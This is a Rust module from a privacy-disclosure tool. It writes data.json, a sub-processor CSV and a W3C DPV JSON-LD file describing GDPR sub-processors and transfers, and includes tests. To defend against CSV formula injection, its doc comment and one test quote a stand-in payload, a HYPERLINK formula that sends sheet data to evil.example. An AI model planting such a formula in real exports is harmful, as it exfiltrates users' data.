//! The published facts for machines, written with every build: `data.json` (the validated model
//! and the stamp), `subprocessors.csv`, and `dpv.jsonld`, the same facts in the W3C Data Privacy
//! Vocabulary (DPV) so that a controller's tools can read who processes what, where, and on
//! which legal basis data leaves the EEA.

use std::collections::{BTreeMap, BTreeSet};

use schemars::JsonSchema;
use serde::Serialize;
use serde_json::{Value, json};

use crate::history::changelog;
use crate::model::{
    Country, Model, Period, PeriodUnit, Roles, Subprocessor, Transfer, TransferMechanism,
};

/// An ISO 8601 duration: `P2Y`, `P6M`, `P30D`.
fn iso_duration(p: &Period) -> String {
    let unit = match p.unit {
        PeriodUnit::Days => 'D',
        PeriodUnit::Months => 'M',
        PeriodUnit::Years => 'Y',
    };
    format!("P{}{unit}", p.count)
}

/// The version of the `data.json` format.
pub const DATA_VERSION: u32 = 1;

/// The document `data.json` holds; its JSON Schema is `candor schema data`.
#[derive(Serialize, JsonSchema)]
#[serde(rename_all = "kebab-case")]
pub struct DataJson<'a> {
    /// The format version (1).
    pub version: u32,
    /// The date of the publication these facts belong to (ISO 8601).
    pub last_modified: String,
    /// The fingerprint of that publication: `sha256:` and the hex SHA-256 of its canonical
    /// form, published as `history/<last-modified>.json` and listed in `history.json`.
    pub fingerprint: &'a str,
    /// The languages the site is published in.
    pub languages: &'a [String],
    /// The validated facts.
    pub facts: &'a Model,
    /// Since when each engaged sub-processor is engaged, by id (ISO 8601): the `engaged` date
    /// its entry gives; or else the day it was announced to start, where the publication
    /// before the first that listed it as engaged announced it; or else the date of that first
    /// publication. An announced one, not yet engaged, is not here; nor is one the site's first
    /// publication listed as engaged already, with no `engaged` date: since when, no
    /// publication says.
    pub engaged_since: &'a BTreeMap<String, String>,
    /// The last day controllers may object to each sub-processor, by id (ISO 8601), as the page
    /// gives it: of one announced, or engaged with a change still to come, the day before that
    /// takes effect; of one that took effect at once while the last day an earlier notice gave
    /// stands, that day. One with nothing to object to now is not here.
    pub objection_until: &'a BTreeMap<String, String>,
}

/// `data.json`: the validated model, with the stamp, its fingerprint and the languages.
pub fn data_json(
    model: &Model,
    date: jiff::civil::Date,
    fingerprint: &str,
    languages: &[String],
    engaged_since: &BTreeMap<String, String>,
    kept: &BTreeMap<String, jiff::civil::Date>,
    to_object: &BTreeSet<String>,
) -> Vec<u8> {
    let objection_until = objection_days(model, date, kept, to_object);
    let doc = DataJson {
        version: DATA_VERSION,
        last_modified: date.to_string(),
        fingerprint,
        languages,
        facts: model,
        engaged_since,
        objection_until: &objection_until,
    };
    let mut out = serde_json::to_vec_pretty(&doc).expect("the model serializes");
    out.push(b'\n');
    out
}

/// [`DataJson::objection_until`] of `model`'s sub-processors, published on `date`; `kept`: the
/// last days notices kept ([`changelog::objections_kept`]); `to_object`: those whose statement
/// still to come may be objected to ([`changes::objectable_to_come`]).
pub fn objection_days(
    model: &Model,
    date: jiff::civil::Date,
    kept: &BTreeMap<String, jiff::civil::Date>,
    to_object: &BTreeSet<String>,
) -> BTreeMap<String, String> {
    (model.subprocessors.iter())
        .filter_map(|s| {
            let day = changelog::objection_until(s, date, kept, to_object)?;
            Some((s.id.clone(), day.to_string()))
        })
        .collect()
}

/// `subprocessors.csv`: one row per sub-processor, in page order.
///
/// Customers open this list in a spreadsheet, so it is written for one: it starts with a UTF-8
/// byte order mark (without it Excel reads the file in the legacy code page and garbles `ü`),
/// and no cell can run as a formula (see [`spreadsheet_text`]).
/// `rows`: each sub-processor as the page lists it, and where a change to an engaged one is
/// still to come, first as it stands and then as stated, so that a row's `effective` after
/// the publication always reads "not in effect yet" (and its `notice_exception` is only one
/// given with the change). `engaged_since`: as
/// [`DataJson::engaged_since`]; a row's `objection_until` as [`DataJson::objection_until`] of
/// the sub-processor as it stands or as stated, published on `date` (`kept`, `to_object`: as
/// [`objection_days`]).
pub fn subprocessors_csv(
    rows: &[&Subprocessor],
    engaged_since: &BTreeMap<String, String>,
    published: jiff::civil::Date,
    kept: &BTreeMap<String, jiff::civil::Date>,
    to_object: &BTreeSet<String>,
) -> Vec<u8> {
    let mut w = csv::Writer::from_writer(UTF8_BOM.as_bytes().to_vec());
    let header = [
        "id",
        "name",
        "purpose",
        "group",
        "personal_data",
        "countries",
        "headquarters",
        "outside_eea",
        "transfer_mechanism",
        "fallback_mechanism",
        "data_categories",
        "data_subjects",
        "applies_to",
        "security_measures",
        "privacy_contact",
        "subprocessor_list",
        "address",
        "engaged",
        "effective",
        "notice_exception",
        "objection_until",
    ];
    w.write_record(header).expect("writing to memory");
    // Lists in a cell are separated by a space: none of the ids or codes holds one.
    let ids = |list: &[String]| list.join(" ");
    let mut before: Option<&Subprocessor> = None;
    for s in rows {
        // The row after one of the same sub-processor is it as stated, a change still to come:
        // an exception kept on the entry from the statement in effect excepted that statement,
        // not the change.
        let standing = before.filter(|b| b.id == s.id);
        before = Some(s);
        let exception = s
            .notice_exception
            .filter(|e| standing.is_none_or(|b| b.notice_exception != Some(*e)));
        let (outside, mechanism, fallback) = match s.transfer {
            Transfer::WithinEea => ("no", "", ""),
            Transfer::OutsideEea {
                mechanism,
                fallback,
            } => (
                "yes",
                mechanism.as_str(),
                fallback.map_or("", |f| f.as_str()),
            ),
        };
        let yes_no = if s.personal_data { "yes" } else { "no" };
        let link =
            |l: &Option<crate::model::Link>| l.as_ref().map_or("", |l| l.as_str()).to_string();
        let countries: Vec<String> = s.countries.iter().map(|c| c.code().to_string()).collect();
        let date = |d: Option<jiff::civil::Date>| d.map(|d| d.to_string()).unwrap_or_default();
        let row = [
            s.id.clone(),
            s.name.clone(),
            s.purpose.clone().unwrap_or_default(),
            s.group.clone().unwrap_or_default(),
            yes_no.to_string(),
            ids(&countries),
            s.headquarters.as_ref().map_or("", |c| c.code()).to_string(),
            outside.to_string(),
            mechanism.to_string(),
            fallback.to_string(),
            ids(&s.data_categories),
            ids(&s.data_subjects),
            ids(&s.applies_to),
            link(&s.security),
            link(&s.contact),
            link(&s.list),
            s.address.clone().unwrap_or_default(),
            engaged_since.get(&s.id).cloned().unwrap_or_default(),
            date(s.effective),
            exception
                .and_then(|e| serde_json::to_value(e).ok())
                .and_then(|v| v.as_str().map(str::to_string))
                .unwrap_or_default(),
            date(changelog::objection_until(s, published, kept, to_object)),
        ];
        for cell in &row {
            w.write_field(spreadsheet_text(cell).as_bytes())
                .expect("writing to memory");
        }
        w.write_record(None::<&[u8]>).expect("writing to memory");
    }
    w.into_inner().expect("writing to memory")
}

/// The byte order mark that tells a spreadsheet the file is UTF-8.
const UTF8_BOM: &str = "\u{feff}";

/// [`subprocessors_csv`]'s `csv` with a first column, `draft`, saying `words` on every row: the
/// review's copy, which says it is a draft as its other files do. `None` if `csv` is not such a
/// list.
pub fn draft_csv(csv: &[u8], words: &str) -> Option<Vec<u8>> {
    let mut rows = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv.strip_prefix(UTF8_BOM.as_bytes())?);
    let mut w = csv::Writer::from_writer(UTF8_BOM.as_bytes().to_vec());
    let words = spreadsheet_text(words);
    for (i, row) in rows.byte_records().enumerate() {
        let row = row.ok()?;
        let first: &[u8] = if i == 0 { b"draft" } else { words.as_bytes() };
        w.write_record(std::iter::once(first).chain(row.iter()))
            .ok()?;
    }
    w.into_inner().ok()
}

/// A cell as a spreadsheet will show it, never run it (OWASP, "CSV Injection"): a cell that
/// starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel, LibreOffice
/// and Google Sheets (`=HYPERLINK("https://evil.example/?"&A1,"x")` sends the sheet's data away
/// when clicked), so such a cell gets a leading `'`, which makes it text. The csv writer then
/// quotes the cell if it holds a quote, a comma or a line break. Only the name can start like
/// that today; every cell goes through here so that no new column can forget it.
fn spreadsheet_text(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

/// The prefixes `dpv.jsonld` uses: DPV 2.x, its GDPR and location extensions, Dublin Core
/// (the date, and the names of places and certifications) and XML Schema (the duration's type).
const DPV_CONTEXT: [(&str, &str); 5] = [
    ("dpv", "https://w3id.org/dpv#"),
    ("eu-gdpr", "https://w3id.org/dpv/legal/eu/gdpr#"),
    ("loc", "https://w3id.org/dpv/loc#"),
    ("dct", "http://purl.org/dc/terms/"),
    ("xsd", "http://www.w3.org/2001/XMLSchema#"),
];

/// The legal basis DPV's `eu-gdpr` extension names for a transfer mechanism: the article of GDPR
/// Chapter V that allows the transfer. Binding corporate rules are defined in Art. 47, but the
/// transfer rests on Art. 46(2)(b), which is the concept DPV has (it has none for Art. 47).
fn gdpr_article(m: TransferMechanism) -> Option<&'static str> {
    match m {
        TransferMechanism::StandardContractualClauses => Some("eu-gdpr:A46-2-c"),
        TransferMechanism::AdequacyDecision => Some("eu-gdpr:A45-3"),
        TransferMechanism::BindingCorporateRules => Some("eu-gdpr:A46-2-b"),
        // The Data Privacy Framework is an adequacy decision; the UK addendum amends the SCCs.
        TransferMechanism::DataPrivacyFramework => Some("eu-gdpr:A45-3"),
        TransferMechanism::UkAddendum => Some("eu-gdpr:A46-2-c"),
        // DPV names each derogation of Art. 49(1) (a to g); the content does not say which.
        TransferMechanism::Derogation => None,
    }
}

/// Region codes CLDR names, so content may give them as countries, that ISO 3166-1 does not
/// assign. DPV's `loc` extension has a concept for every ISO 3166-1 country and none for these,
/// so a place in one of them is written without its country.
const NOT_IN_DPV_LOC: &[&str] = &["AC", "CP", "CQ", "DG", "EA", "IC", "TA", "XK"];

/// The DPV concept of a country (`loc:DE`), if DPV has one.
fn country_concept(country: &Country) -> Option<Value> {
    let code = country.code();
    (!NOT_IN_DPV_LOC.contains(&code)).then(|| json!({ "@id": format!("loc:{code}") }))
}

/// `dpv.jsonld`: the published facts in the W3C Data Privacy Vocabulary (DPV 2.x), using only
/// terms DPV defines (tests/fixtures/dpv/terms.txt lists them, with their source). The
/// organisation, as controller or processor, has its `engaged` sub-processors (not those
/// announced and not yet engaged), each as it stands on the publication's day, as recipients,
/// each with the transfer outside the EEA its data makes and that transfer's legal basis, its
/// storage locations and its retention period.
///
/// Nodes are named by the ids the page's anchors use (`#subprocessor-<id>`, `#storage-<id>`, the
/// organisation by its section `#control`),
/// never by position, so a node keeps its name when the list is reordered; `base` is the
/// address of the page that holds them (none: they name nodes of this file).
pub fn dpv_jsonld(
    model: &Model,
    engaged: &[&Subprocessor],
    date: jiff::civil::Date,
    base: &str,
) -> Vec<u8> {
    let org = &model.organisation;
    let types: Vec<&str> = match org.roles {
        Roles::Both => vec!["dpv:DataController", "dpv:DataProcessor"],
        Roles::Controller => vec!["dpv:DataController"],
        Roles::Processor => vec!["dpv:DataProcessor"],
    };
    // A sub-processor is a processor engaged by a processor; an organisation that is only a
    // controller engages processors.
    let recipient_type = match org.roles {
        Roles::Controller => "dpv:DataProcessor",
        Roles::Processor | Roles::Both => "dpv:DataSubProcessor",
    };
    // One announced and not yet engaged receives nothing yet; one with a change still to come
    // receives what it does until that day (the file has no dates to say otherwise). Each is
    // made as it is written: a site's sub-processors, each as a tree of JSON values, were a
    // dozen times the size of the file, held beside the pages being rendered.
    let recipients = Recipients(engaged, &|s: &Subprocessor| {
        let id = format!("{base}#subprocessor-{}", s.id);
        let mut r = json!({
            "@id": id,
            "@type": recipient_type,
            "dpv:hasName": s.name,
        });
        // Whether it receives personal data, as a concept. The model does not say which
        // categories, so it is DPV's broadest, `dpv:PersonalData`. DPV has no term for
        // "none": a sub-processor without personal data has `dpv:NonPersonalData`.
        if s.personal_data {
            r["dpv:hasPersonalData"] = json!({ "@id": "dpv:PersonalData" });
        } else {
            r["dpv:hasData"] = json!({ "@id": "dpv:NonPersonalData" });
        }
        // Data that leaves the EEA crosses a border, to this recipient, on a legal basis of
        // Chapter V, to the countries outside the EEA where it processes data. DPV has no
        // term for "no transfer", so within the EEA nothing is written.
        if let Transfer::OutsideEea { mechanism, .. } = s.transfer {
            let mut transfer = json!({
                "@type": "dpv:CrossBorderTransfer",
                "dpv:hasRecipient": { "@id": id },
            });
            if let Some(article) = gdpr_article(mechanism) {
                transfer["dpv:hasLegalBasis"] = json!({ "@id": article });
            }
            let third: Vec<Value> = s
                .countries
                .iter()
                .filter(|c| !crate::transfers::EEA.contains(&c.code()))
                .filter_map(country_concept)
                .collect();
            if !third.is_empty() {
                transfer["dpv:hasThirdCountry"] = Value::Array(third);
            }
            r["dpv:hasProcessing"] = transfer;
        }
        if let Some(link) = &s.security {
            r["dpv:hasTechnicalOrganisationalMeasure"] = json!({ "@id": link.as_str() });
        }
        r
    });
    let mut storage: Vec<Value> = model
        .storage
        .locations
        .iter()
        .map(|l| {
            // DPV has a class for a city but no property for it, nor for a certification: the
            // city is a location and each certification an organisational measure, named.
            // `dpv:hasName` names an entity, not a place, so the provider is the entity that
            // runs the location, as in DPV's own example of a cloud location.
            let mut s = json!({
                "@id": format!("{base}#storage-{}", l.id),
                "@type": "dpv:StorageLocation",
                "dpv:isImplementedByEntity": { "dpv:hasName": l.provider },
                "dpv:hasLocation": { "@type": "dpv:City", "dct:title": l.city },
            });
            if let Some(country) = country_concept(&l.country) {
                s["dpv:hasCountry"] = country;
            }
            if !l.certifications.is_empty() {
                let measures: Vec<Value> = l
                    .certifications
                    .iter()
                    .map(|c| json!({ "@type": "dpv:Certification", "dct:title": c }))
                    .collect();
                s["dpv:hasOrganisationalMeasure"] = measures.into();
            }
            s
        })
        .collect();
    storage.push(json!({
        "@type": "dpv:StorageDuration",
        "dpv:hasDuration": {
            "@value": iso_duration(&model.retention.period),
            "@type": "xsd:duration",
        },
    }));
    let context: serde_json::Map<String, Value> = DPV_CONTEXT
        .iter()
        .map(|(prefix, iri)| (prefix.to_string(), Value::from(*iri)))
        .collect();
    // The keys in the order of their bytes, as a JSON object's map orders them.
    #[derive(Serialize)]
    struct Document<'a> {
        #[serde(rename = "@context")]
        context: serde_json::Map<String, Value>,
        #[serde(rename = "@id")]
        id: String,
        #[serde(rename = "@type")]
        types: Vec<&'a str>,
        #[serde(rename = "dct:modified")]
        modified: String,
        #[serde(rename = "dpv:hasContact")]
        contact: Value,
        #[serde(rename = "dpv:hasName")]
        name: &'a str,
        #[serde(rename = "dpv:hasPolicy")]
        policy: Value,
        #[serde(rename = "dpv:hasRecipient")]
        recipients: Recipients<'a>,
        #[serde(rename = "dpv:hasStorageCondition")]
        storage: Vec<Value>,
    }
    let doc = Document {
        context,
        // Named by the page's section that says which it is, controller or processor (qa125,
        // qa127, qa131: `#organisation` was no anchor of the page).
        id: format!("{base}#control"),
        types,
        modified: date.to_string(),
        contact: json!({ "@id": org.contact.as_str() }),
        name: &org.name,
        policy: json!({ "@id": org.privacy_policy.as_str() }),
        recipients,
        storage,
    };
    let mut out = serde_json::to_vec_pretty(&doc).expect("JSON-LD serializes");
    out.push(b'\n');
    out
}

/// Sub-processors written as a list of JSON values, each made by the function as it is written.
struct Recipients<'a>(&'a [&'a Subprocessor], &'a dyn Fn(&Subprocessor) -> Value);

impl Serialize for Recipients<'_> {
    fn serialize<S: serde::Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        serializer.collect_seq(self.0.iter().map(|s| (self.1)(s)))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The DPV terms the tests rely on, with their source (`<prefix>:<term> <kind>` lines and
    /// `@prefix <prefix>: <iri>` lines).
    const DPV_TERMS: &str = include_str!("../../tests/fixtures/dpv/terms.txt");

    /// The kind (`class` or `property`) DPV gives `term`, if the list has it.
    fn dpv_kind(term: &str) -> Option<&'static str> {
        DPV_TERMS.lines().find_map(|line| {
            let (t, kind) = line.split_once(' ')?;
            (t == term).then_some(kind)
        })
    }

    #[test]
    fn every_country_content_may_give_has_a_dpv_concept_or_is_known_to_have_none() {
        let mut countries = 0;
        for a in 'A'..='Z' {
            for b in 'A'..='Z' {
                let code = format!("{a}{b}");
                if !crate::intl::is_country(&code) {
                    assert!(
                        !NOT_IN_DPV_LOC.contains(&code.as_str()),
                        "{code} is no country"
                    );
                    continue;
                }
                countries += 1;
                let concept = country_concept(&Country::parse(&code).unwrap());
                let listed = dpv_kind(&format!("loc:{code}")) == Some("class");
                assert_eq!(concept.is_some(), listed, "{code}");
                if let Some(c) = concept {
                    assert_eq!(c["@id"], format!("loc:{code}"));
                }
            }
        }
        assert!(countries > 240, "{countries} countries");
    }

    #[test]
    fn every_transfer_mechanism_has_a_dpv_legal_basis_but_an_unnamed_derogation() {
        for &m in TransferMechanism::ALL {
            match gdpr_article(m) {
                Some(article) => assert_eq!(dpv_kind(article), Some("class"), "{m:?}"),
                None => assert_eq!(m, TransferMechanism::Derogation),
            }
        }
    }

    #[test]
    fn the_dpv_prefixes_are_the_vocabulary_s_namespaces() {
        for (prefix, iri) in DPV_CONTEXT {
            let declared = format!("@prefix {prefix}: {iri}");
            let listed = DPV_TERMS
                .lines()
                .any(|l| l.starts_with(&format!("@prefix {prefix}:")));
            assert!(
                !listed || DPV_TERMS.lines().any(|l| l == declared),
                "{prefix} is not {iri} in the DPV term list"
            );
        }
        for prefix in ["dpv", "eu-gdpr", "loc"] {
            assert!(DPV_CONTEXT.iter().any(|(p, _)| *p == prefix), "{prefix}");
        }
    }

    #[test]
    fn a_cell_a_spreadsheet_would_evaluate_becomes_text() {
        for cell in [
            "=1+1",
            "+1",
            "-1",
            "@SUM(A1)",
            "\t=1+1",
            "\r=1+1",
            r#"=HYPERLINK("https://evil.example/?"&A1,"x")"#,
        ] {
            assert_eq!(spreadsheet_text(cell), format!("'{cell}"));
        }
        for cell in ["Müller GmbH", "a=b", "", "'quoted", "2025-10-30", " =1"] {
            assert_eq!(spreadsheet_text(cell), cell);
        }
    }

    #[test]
    fn the_csv_quotes_a_neutralized_formula_and_reads_back_as_written() {
        let mut w = csv::Writer::from_writer(Vec::new());
        w.write_record([spreadsheet_text(r#"=HYPERLINK("x","y")"#).as_bytes()])
            .unwrap();
        let bytes = w.into_inner().unwrap();
        assert_eq!(bytes, b"\"'=HYPERLINK(\"\"x\"\",\"\"y\"\")\"\n");
    }
}
